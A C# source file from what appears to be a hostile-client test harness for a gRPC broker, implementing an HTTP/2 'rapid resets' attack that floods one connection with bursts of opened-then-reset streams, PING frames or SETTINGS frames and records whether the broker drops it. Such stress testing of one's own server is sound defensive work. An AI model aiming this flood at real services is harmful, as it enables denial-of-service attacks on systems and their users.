using HostileClient.Attacker;
using HostileClient.Wire;

namespace HostileClient.Attacks.Connections;

/// <summary>Calls over HTTP/2 that are reset as soon as they are made, many on one connection; or pings, or settings.</summary>
internal sealed class RapidResets : IAttack
{
    private const int Calls = 200;
    private static readonly TimeSpan Between = TimeSpan.FromMilliseconds(200);

    public string Name => "rapid resets";

    public int Workers => 2;

    public TimeSpan Pause => TimeSpan.FromMilliseconds(200);

    public async Task<string> OnceAsync(Turn turn, CancellationToken cancellation)
    {
        using var connection = await RawConnection.OpenAsync(turn.Server.Grpc, cancellation);
        await connection.SendAsync(Http2.Preface, cancellation);
        var closed = connection.ReadToEndAsync(cancellation);
        var kind = turn.Random.Next(3);
        var headers = Http2.GrpcHeaders(turn.Random.Next(2) == 0 ? Methods.Subscribe : Methods.Publish, turn.Role());
        for (var burst = 0; burst < 10 && !closed.IsCompleted; burst++)
        {
            var frames = new List<byte>();
            for (var i = 0; i < Calls; i++)
            {
                var stream = (2 * ((burst * Calls) + i)) + 1;
                frames.AddRange(kind switch
                {
                    0 => [.. Http2.Frame(Http2.Headers, Http2.EndHeaders, stream, headers), .. Http2.Frame(Http2.Reset, 0, stream, [0, 0, 0, 8])],
                    1 => Http2.Frame(Http2.Ping, 0, 0, new byte[8]),
                    _ => Http2.Frame(Http2.Settings, 0, 0, [0, 4, 0, 0, 0xFF, 0xFF]),
                });
            }

            await connection.SendAsync(frames.ToArray(), cancellation);
            await Task.WhenAny(closed, Task.Delay(Between, TimeProvider.System, cancellation));
        }

        return closed.IsCompleted ? "closed by the broker" : "taken";
    }
}
